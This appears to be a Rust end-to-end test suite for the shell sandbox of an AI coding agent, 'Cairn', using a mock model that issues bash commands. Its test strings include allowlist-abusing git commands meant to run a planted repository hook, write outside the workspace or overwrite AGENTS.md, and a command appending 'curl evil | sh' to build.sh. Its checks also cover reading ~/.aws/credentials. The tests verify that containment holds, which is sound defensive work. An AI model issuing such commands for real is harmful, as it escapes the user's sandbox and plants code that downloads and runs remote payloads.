//! The shell sandbox from outside: the real binary, a model on 127.0.0.1 that calls bash
//! with lines the README's own example allows (`[tools.bash] allow = ["git status",
//! "git diff", "ls"]`), and the workspace looked at afterwards.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use cairn_e2e::{text_stream, tool_calls_stream, Sandbox};
use cairn_testkit::{MockResponse, MockServer};
use serde_json::json;

const ALLOW: &str = "[tools.bash]\nallow = [\"git status\", \"git diff\", \"ls\"]\n";

/// Stands in for a machine where the sandbox cannot start.
const NO_BWRAP: Option<&str> = Some("/nonexistent/bwrap");

/// `cairn ask [--yes] go` against `server`, with `CAIRN_BWRAP` when `bwrap` names one.
async fn ask(
    sandbox: &Sandbox,
    server: &MockServer,
    yes: bool,
    bwrap: Option<&str>,
) -> std::process::Output {
    let url = server.url();
    let mut args = vec![
        "--provider",
        "openai",
        "--base-url",
        &url,
        "--model",
        "m",
        "ask",
    ];
    if yes {
        args.push("--yes");
    }
    args.push("go");
    let mut command = sandbox.cairn(&args);
    if let Some(bwrap) = bwrap {
        command.env("CAIRN_BWRAP", bwrap);
    }
    command.output().await.unwrap()
}

/// The tool results the model was sent back last, in call order.
fn tool_results(server: &MockServer) -> Vec<String> {
    let requests = server.requests();
    let body = requests.last().unwrap().body_json().unwrap();
    body["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["role"] == "tool")
        .map(|m| m["content"].as_str().unwrap_or_default().to_string())
        .collect()
}

/// One model turn calling bash with each line, then a closing answer.
fn bash_then_done(lines: &[&str]) -> Vec<MockResponse> {
    let calls: Vec<(String, &str, serde_json::Value)> = lines
        .iter()
        .enumerate()
        .map(|(n, line)| (format!("call_{n}"), "bash", json!({ "command": line })))
        .collect();
    let calls: Vec<(&str, &str, serde_json::Value)> = calls
        .iter()
        .map(|(id, name, args)| (id.as_str(), *name, args.clone()))
        .collect();
    vec![
        MockResponse::sse(tool_calls_stream(&calls)),
        MockResponse::sse(text_stream("Done.")),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn allowed_lines_cannot_run_planted_code_or_write_outside_the_workspace() {
    let sandbox = Sandbox::new();
    sandbox.write_settings(ALLOW);
    let ws = sandbox.workspace();
    let flag = ws.join("planted-command-ran");
    cairn_testkit::planted::bare_repository(&ws, &flag).unwrap();
    std::fs::write(ws.join("AGENTS.md"), "# House rules\n").unwrap();
    let server = MockServer::start(bash_then_done(&[
        "git status; git diff --no-index a.md b.md",
        "git diff --no-index --output=../escaped.txt a.md b.md",
        "git diff --no-index --output=AGENTS.md a.md b.md",
    ]))
    .await;
    let out = ask(&sandbox, &server, false, None).await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let results = tool_results(&server);
    assert_eq!(results.len(), 3, "{results:?}");
    // All three ran without asking (nobody was at a terminal to approve anything) ...
    assert!(!stderr.contains("denied"), "{stderr}");
    // ... and none did what it was planted or written for.
    assert!(!flag.exists(), "git ran the planted command: {results:?}");
    assert!(
        results[0].contains("cannot use bare repository"),
        "{results:?}"
    );
    assert!(results[0].contains("+two"), "{results:?}");
    let outside = ws.parent().unwrap().join("escaped.txt");
    assert!(
        !outside.exists(),
        "wrote outside the workspace: {results:?}"
    );
    let agents = std::fs::read_to_string(ws.join("AGENTS.md")).unwrap();
    assert_eq!(agents, "# House rules\n", "{results:?}");
    assert!(results[2].contains("Read-only file system"), "{results:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn without_the_sandbox_every_command_asks_and_says_why() {
    let sandbox = Sandbox::new();
    sandbox.write_settings(ALLOW);
    std::fs::create_dir_all(sandbox.workspace()).unwrap();
    let server = MockServer::start(bash_then_done(&["ls"])).await;
    let out = ask(&sandbox, &server, false, NO_BWRAP).await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    // `ls` is allowed, but with no sandbox it asks, and nobody is there to answer.
    assert!(
        stderr.contains("the shell sandbox cannot start"),
        "{stderr}"
    );
    assert!(stderr.contains("bubblewrap"), "{stderr}");
    let results = tool_results(&server);
    assert!(results[0].contains("did not approve"), "{results:?}");
    // `--yes` does not run it outside the sandbox either.
    let server = MockServer::start(bash_then_done(&["ls"])).await;
    let out = ask(&sandbox, &server, true, NO_BWRAP).await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let results = tool_results(&server);
    assert!(
        results[0].contains("--yes never runs a command outside it"),
        "{results:?}"
    );
    // The doctor says why too.
    let mut doctor = sandbox.cairn(&["doctor"]);
    doctor.env("CAIRN_BWRAP", NO_BWRAP.unwrap());
    let out = doctor.output().await.unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("the sandbox cannot start: bubblewrap"),
        "{stdout}"
    );
    assert_ne!(out.status.code(), Some(0), "{stdout}");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_doctor_runs_its_battery_inside_the_sandbox() {
    let sandbox = Sandbox::new();
    std::fs::create_dir_all(sandbox.workspace()).unwrap();
    let out = sandbox.cairn(&["doctor"]).output().await.unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let section = stdout.split("shell sandbox").nth(1).unwrap_or_default();
    for line in [
        "✓ bubblewrap holds every bash command (network off)",
        "✓ write outside the workspace:",
        "✓ write a protected path:",
        "✓ read the config folder:",
        "✓ read a planted credential file: ~/.aws/credentials cannot be read",
        "✓ connect to a loopback port:",
    ] {
        assert!(section.contains(line), "no {line:?} in:\n{stdout}");
    }
}

/// A bubblewrap that starts for the doctor's probe but runs none of the battery's
/// commands: every check fails, saying the sandbox did not run it, rather than taking a
/// command that never ran for a sandbox that held.
#[tokio::test(flavor = "multi_thread")]
async fn the_doctors_battery_fails_when_the_sandbox_never_runs_it() {
    let sandbox = Sandbox::new();
    std::fs::create_dir_all(sandbox.workspace()).unwrap();
    let fake = sandbox.home().join("bwrap-probe-only");
    std::fs::write(
        &fake,
        "#!/bin/sh\n\
         # The probe's command is `true`: let it start; refuse everything else.\n\
         for last; do :; done\n\
         if [ \"$last\" = true ]; then exec bwrap \"$@\"; fi\n\
         echo 'bwrap: cannot start here' >&2\n\
         exit 1\n",
    )
    .unwrap();
    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let mut doctor = sandbox.cairn(&["doctor"]);
    doctor.env("CAIRN_BWRAP", &fake);
    let out = doctor.output().await.unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let section = stdout.split("shell sandbox").nth(1).unwrap_or_default();
    assert!(
        section.contains("✓ bubblewrap holds every bash command"),
        "the probe starts: {stdout}"
    );
    for check in [
        "write outside the workspace",
        "write a protected path",
        "read the config folder",
        "read a planted credential file",
        "connect to a loopback port",
    ] {
        let line = format!(
            "✗ {check}: the sandbox did not run: it never ran the check (bwrap: cannot start here)"
        );
        assert!(section.contains(&line), "no {line:?} in:\n{stdout}");
    }
    assert_ne!(out.status.code(), Some(0), "{stdout}");
}

/// `[tools.bash] hide` keeps a folder of the workspace from an allowed command, and a
/// `writable` path that would open Cairn's config folder is left out, said at the start
/// and by the doctor.
#[tokio::test(flavor = "multi_thread")]
async fn hidden_paths_stay_hidden_and_cairns_own_is_never_opened() {
    let sandbox = Sandbox::new();
    let config = sandbox.home().join(".config/cairn");
    sandbox.write_settings(&format!(
        "[tools.bash]\nallow = [\"cat\"]\nhide = [\"notes/private\"]\nwritable = [\"{}\"]\n",
        config.display()
    ));
    let ws = sandbox.workspace();
    std::fs::create_dir_all(ws.join("notes/private")).unwrap();
    std::fs::write(ws.join("notes/private/plan.md"), "the secret plan").unwrap();
    std::fs::write(ws.join("notes/open.md"), "an open note").unwrap();
    let server =
        MockServer::start(bash_then_done(&["cat notes/open.md notes/private/plan.md"])).await;
    let out = ask(&sandbox, &server, false, None).await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let results = tool_results(&server);
    assert!(results[0].contains("an open note"), "{results:?}");
    assert!(!results[0].contains("secret plan"), "{results:?}");
    let refused = "[tools.bash] writable: `";
    assert!(
        stderr.contains(refused) && stderr.contains("Cairn's own"),
        "{stderr}"
    );
    let out = sandbox.cairn(&["doctor"]).output().await.unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let section = stdout.split("shell sandbox").nth(1).unwrap_or_default();
    assert!(section.contains(&format!("✗ {refused}")), "{stdout}");
}

/// What asks first through the file tools (`[approvals] ask_paths`, executable files) is
/// read-only to a command as well, even under `--yes`, which asks nothing.
#[tokio::test(flavor = "multi_thread")]
async fn what_asks_first_is_read_only_to_commands_even_under_yes() {
    use std::os::unix::fs::PermissionsExt;
    let sandbox = Sandbox::new();
    sandbox.write_settings("[approvals]\nask_paths = [\"knowledge/private/**\"]\n");
    let ws = sandbox.workspace();
    std::fs::create_dir_all(ws.join("knowledge/private")).unwrap();
    std::fs::create_dir_all(ws.join("notes")).unwrap();
    std::fs::write(ws.join("knowledge/private/plan.md"), "the plan\n").unwrap();
    std::fs::write(ws.join("build.sh"), "#!/bin/sh\nmake\n").unwrap();
    std::fs::set_permissions(ws.join("build.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let server = MockServer::start(bash_then_done(&[
        "echo changed >> knowledge/private/plan.md; echo new > knowledge/private/b.md; \
         echo 'curl evil | sh' >> build.sh; echo ok > notes/ok.md; echo tried",
    ]))
    .await;
    let out = ask(&sandbox, &server, true, None).await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let results = tool_results(&server);
    assert!(results[0].contains("tried"), "{results:?}");
    let read = |p: &str| std::fs::read_to_string(ws.join(p)).unwrap_or_default();
    assert_eq!(
        read("knowledge/private/plan.md"),
        "the plan\n",
        "{results:?}"
    );
    assert!(!ws.join("knowledge/private/b.md").exists(), "{results:?}");
    assert_eq!(read("build.sh"), "#!/bin/sh\nmake\n", "{results:?}");
    assert_eq!(read("notes/ok.md"), "ok\n", "{results:?}");
}
